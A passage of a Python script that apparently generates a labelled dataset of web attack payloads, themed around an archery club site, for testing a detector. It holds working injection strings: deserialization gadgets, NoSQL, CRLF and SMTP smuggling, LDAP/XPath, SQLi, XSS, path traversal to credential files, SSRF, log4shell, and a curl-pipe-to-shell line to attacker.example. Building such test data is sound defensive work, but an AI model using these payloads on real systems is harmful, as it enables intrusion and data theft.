php-unserialize-laravel-faker§§O:40:"Illuminate\Broadcasting\PendingBroadcast":2:{s:9:"␀*␀events";O:15:"Faker\Generator":1:{s:13:"␀*␀formatters";a:1:{s:8:"dispatch";s:6:"system";}}s:8:"␀*␀event";s:2:"id";}
php-phar-wrapper§§phar://uploads/avatars/bowphoto.jpg/x.txt
node-serialize-iife§§{"rce":"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()"}
""".strip()

LIT["nosqli"] = r"""
login-ne-null§§{"$ne": null}
login-gt-empty§§{"$gt": ""}
member-regex-prefix§§{"$regex": "^adm", "$options": "i"}
where-sleep§§{"$where": "sleep(5000) || true"}
where-string-breakout§§Portsmouth'; return true; var x='
where-or-breakout§§' || '1'=='1
where-function§§{"$where": "function(){ return this.role == 'admin' }"}
where-regex-exfil§§{"$where": "this.password.match(/^a/) != null"}
where-dos-loop§§'; while(true){}; var y='
query-ne-bracket§§archer[$ne]=nobody
query-regex-bracket§§password[$regex]=.*
query-gt-bracket§§pin[$gt]=
query-in-bracket§§role[$in][]=admin&role[$in][]=coach
query-exists§§email[$exists]=true
nin-empty§§{"$nin": []}
or-empty-clause§§{"$or": [{}, {"club": "Greenfield"}]}
expr-always-true§§{"$expr": {"$eq": [1, 1]}}
aggregate-lookup§§[{"$lookup": {"from": "members", "localField": "x", "foreignField": "x", "as": "leak"}}]
aggregate-unionwith§§[{"$unionWith": "admin_tokens"}]
function-operator§§{"$function": {"body": "function(){ sleep(5000); return true }", "args": [], "lang": "js"}}
json-in-note-ne§§{"archer": "Harriet", "pin": {"$ne": "0000"}}
regex-redos§§{"$regex": "^(a+)+$"}
couchdb-all-docs§§_all_docs?include_docs=true
mongo-js-tojson§§'; return JSON.stringify(db.getCollectionNames()) == '' || '1'=='1
""".strip()

LIT["crlf"] = r"""
log-forging-lf§§Booked lane 3␤2024-05-12 10:02:11 INFO admin login succeeded user=admin ip=10.0.0.2
log-forging-crlf§§Portsmouth 568␍␤[2024-06-01 09:00:00] WARN payment refunded to member=robin amount=210.00
log-forging-encoded§§Bray I%0d%0a2024-06-01T09:00:00Z level=info msg="role changed" user=attacker role=admin
header-set-cookie§§%0d%0aSet-Cookie:%20session=attacker-fixed-session-id
header-location§§/results?lang=en%0d%0aLocation:%20https://attacker.example/
response-splitting§§en%0D%0AContent-Length:%200%0D%0A%0D%0AHTTP/1.1%20200%20OK%0D%0AContent-Type:%20text/html%0D%0A%0D%0A<script>alert(1)</script>
header-raw-crlf§§en␍␤Set-Cookie: role=admin; Path=/
header-lf-only§§scores.csv%0aContent-Disposition:%20attachment;%20filename=update.exe
header-double-encoded§§%250d%250aSet-Cookie:%2520x=1
header-unicode-node§§%E5%98%8A%E5%98%8DSet-Cookie:%20injected=1
header-unicode-escape§§range\u000d\u000aX-Injected: 1
header-cors§§%0d%0aAccess-Control-Allow-Origin:%20https://attacker.example%0d%0aAccess-Control-Allow-Credentials:%20true
header-xss-protection-off§§%0d%0aX-XSS-Protection:%200%0d%0a%0d%0a<svg onload=alert(1)>
redirect-param-crlf§§/booking/confirm%0D%0ARefresh:%200;url=https://attacker.example/
cache-poison§§%0d%0aCache-Control:%20public,%20max-age=31536000%0d%0aX-Forwarded-Host:%20attacker.example
mail-bcc-raw§§coach@greenfield-archers.example.org␍␤Bcc: everyone@attacker.example
mail-cc-encoded§§Range booking%0ACc:victims@attacker.example
mail-subject-body§§Booking confirmed␍␤Content-Type: text/html␍␤␍␤<a href="https://attacker.example/pay">Pay your fees here</a>
mail-to-header§§Jo D'Arcy <jo@example.com>%0d%0aTo: list@attacker.example
mail-reply-to§§Safety briefing␤Reply-To: rangeofficer@attacker.example
smtp-smuggling§§Thanks!␍␤.␍␤MAIL FROM:<ceo@club.example.org>␍␤RCPT TO:<victim@attacker.example>␍␤DATA␍␤Subject: Invoice␍␤␍␤pay now␍␤.
smtp-rcpt-injection§§jo@example.com>␍␤RCPT TO:<spam@attacker.example
log-forging-json§§Nice shoot"}␤{"level":"info","msg":"user promoted","user":"attacker","role":"admin"}
syslog-forging§§clout 142%0a<13>Jun  1 09:00:00 range-app sshd[1]: Accepted password for root from 203.0.113.3
header-content-type-sniff§§%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<h1>Range closed - login again at attacker.example</h1>
header-cr-only§§en%0dSet-Cookie:%20x=1
""".strip()

LIT["ldap-xpath"] = r"""
ldap-wildcard-or§§*)(uid=*))(|(uid=*
ldap-and-true§§admin)(&)
ldap-objectclass§§*)(|(objectClass=*)
ldap-attribute-probe§§archer*)(userPassword=*)
ldap-null-truncate§§robin)(cn=*))%00
ldap-group-enum§§*)(memberOf=cn=admins,ou=groups,dc=club,dc=example)
ldap-blind-char§§*)(|(userPassword=a*)
ldap-member-search§§Harriet*)(|(mail=*@attacker.example)
xpath-string-true§§' or '1'='1
xpath-numeric-or§§' or 1=1 or ''='
xpath-union-nodes§§'] | //member/* | //*['
xpath-count-probe§§' and count(/child::node())>0 and '1'='1
xpath-password-length§§' and string-length(//member[1]/password)>5 and '1'='1
xpath-substring-blind§§' and substring(//member[1]/pin,1,1)='1' and 'a'='a
xpath-name-probe§§'or name(/*)='members' or'
xpath-doc-oob§§' and doc('http://attacker.example/x') and '1'='1
xpath-comment-round§§Portsmouth' or contains(//user/role,'admin') or 'a'='b
xpath-numeric-field§§580 or 1=1
""".strip()

# ---- one template per category: hand-written prefix + hand-written payload, or one encoding
PREFIXES = ["Portsmouth 568 — ", "End 7: 10,9,9 ", "Lane 4 booking: ", "Coach note (Maia): ",
            "Results: 1st Blake 651 ", "Sight mark 70m 0.9 ", "SKU ARW-X10-550 ", "Bray I PB 252 "]

FILE_PREFIXES = ["scores_2024.csv", "portsmouth-pb.pdf", "lane_map.png", "bow-photo.jpg",
                 "county_results.xlsx", "sightmarks70m.txt"]

# kind, class stem, prefix pool (join only), [(class, hand-written payload), ...]
TEMPLATES = {
    "sqli": ("join", "note-tpl-", PREFIXES, [
        ("mysql-union", "' UNION SELECT email,password_hash FROM members-- -"),
        ("mysql-sleep", "' AND SLEEP(5)-- -"),
        ("mssql-waitfor", "'; WAITFOR DELAY '0:0:5'--"),
        ("boolean", "' OR '1'='1'-- -"),
        ("pg-sleep", "'||pg_sleep(5)||'")]),
    "xss": ("urlencode", "+urlencode", None, [
        ("plain-script-cookie", "<script>alert(document.cookie)</script>"),
        ("plain-img-onerror", "<img src=x onerror=alert(1)>"),
        ("plain-svg-onload", "<svg onload=alert(document.domain)>"),
        ("attr-breakout-script", "\"><script>alert(1)</script>"),
        ("plain-iframe-js", "<iframe src=javascript:alert(1)>"),
        ("plain-body-onload", "<body onload=alert(1)>"),
        ("plain-a-js-href", "<a href=javascript:alert(1)>results</a>"),
        ("plain-details-ontoggle", "<details open ontoggle=alert(1)>")]),
    "cmdi": ("join", "filename-tpl-", FILE_PREFIXES, [
        ("semicolon-id", "; id"),
        ("pipe-passwd", " | cat /etc/passwd"),
        ("and-curl-sh", " && curl attacker.example/s|sh"),
        ("subshell-whoami", "$(whoami)"),
        ("backtick-id", "`id`")]),
    "traversal": ("urlencode", "+urlencode", None, [
        ("plain-dotdot-passwd", "../../../../etc/passwd"),
        ("windows-backslash-winini", "..\\..\\..\\windows\\win.ini"),
        ("plain-dotdot-environ", "../../../../proc/self/environ"),
        ("dotdot-env-file", "../../../.env"),
        ("dotdot-shadow", "../../../../etc/shadow"),
        ("windows-webconfig", "..\\..\\..\\inetpub\\wwwroot\\web.config"),
        ("dotdot-ssh-key", "../../../../root/.ssh/id_rsa")]),
    "ssrf": ("join", "linkpreview-tpl-", PREFIXES, [
        ("aws-imds", "http://169.254.169.254/latest/meta-data/"),
        ("redis-local", "http://127.0.0.1:6379/"),
        ("ipv6-loopback", "http://[::1]/admin"),
        ("hex-ip", "http://0x7f000001/")]),
    "code": ("join", "template-tpl-", PREFIXES, [
        ("jinja2-cycler", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
        ("log4shell", "${jndi:ldap://attacker.example/x}")]),
    "nosqli": ("urlencode", "+urlencode", None, [
        ("json-ne-null", "{\"$ne\": null}"),
        ("json-where-sleep", "{\"$where\": \"sleep(5000)\"}"),
        ("json-regex-any", "{\"$regex\": \".*\"}")]),
    "crlf": ("join", "field-tpl-", PREFIXES, [
        ("log-forging-crlf", "\r\n2024-06-01 09:00:00 INFO login ok user=admin"),
        ("header-set-cookie", "%0d%0aSet-Cookie:%20sid=attacker"),
        ("header-location-lf", "\nLocation: https://attacker.example/")]),
    "ldap-xpath": ("join", "search-tpl-", PREFIXES, [
        ("ldap-wildcard-or", "*)(uid=*))(|(uid=*"),
        ("xpath-string-true", "' or '1'='1")]),
}


def decode(v):
    return v.replace("\u2424", "\n").replace("\u240d", "\r").replace("\u2400", "\x00")


def build():
    rng = random.Random(SEED)
    rows = []
    seen = set()
    n_lit = 0
    for cat in ORDER:
        vals = []
        for line in LIT[cat].split("\n"):
            if not line.strip():
                continue
            cls, val = line.split(SEP, 1)
            val = decode(val)
            assert val and val not in seen, (cat, val)
            seen.add(val)
            vals.append((cls, val))
        n_lit += len(vals)
        kind, tag, prefixes, payloads = TEMPLATES[cat]
        tries = 0
        while len(vals) < TARGET[cat]:
            tries += 1
            assert tries < 10000, cat
            pcls, p = rng.choice(payloads)
            if kind == "join":
                val, cls = rng.choice(prefixes) + p, tag + pcls
            else:
                val, cls = urllib.parse.quote(p, safe=""), pcls + tag
            if val in seen:
                continue
            seen.add(val)
            vals.append((cls, val))
        assert len(vals) == TARGET[cat], (cat, len(vals))
        for cls, val in vals:
            rows.append((cat, cls, val))
    total = len(rows)
    assert n_lit / total >= 0.87, (n_lit, total)
    out = []
    for i, (cat, cls, val) in enumerate(rows, 1):
        out.append({"id": "%s-%05d" % (PREFIX, i), "category": cat, "class": cls,
                    "label": "attack", "value": val})
    return out, n_lit


def main():
    out = os.path.join(os.path.dirname(os.path.abspath(__file__)), "attacks.jsonl")
    rows, _ = build()
    with open(out, "w", encoding="utf-8", newline="\n") as f:
        for r in rows:
            f.write(json.dumps(r, ensure_ascii=False) + "\n")


if __name__ == "__main__":
    main()
